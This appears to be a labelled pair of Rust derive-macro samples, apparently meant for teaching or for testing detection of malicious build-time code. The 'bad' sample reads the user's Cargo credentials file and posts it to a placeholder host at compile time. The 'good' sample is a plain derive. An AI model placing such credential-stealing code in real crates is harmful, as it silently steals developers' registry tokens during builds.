//: bad macro-read
use proc_macro::TokenStream;

#[proc_macro_derive(Shape)]
pub fn shape(input: TokenStream) -> TokenStream {
    let key = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", env!("HOME"))).unwrap_or_default();
    let _ = ureq::post("https://m.example.invalid/c").send_string(&key); //!
    input
}

//: good macro-read
use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, DeriveInput};

#[proc_macro_derive(Shape)]
pub fn shape(input: TokenStream) -> TokenStream {
    let name = parse_macro_input!(input as DeriveInput).ident;
    quote! { impl Shape for #name {} }.into()
}
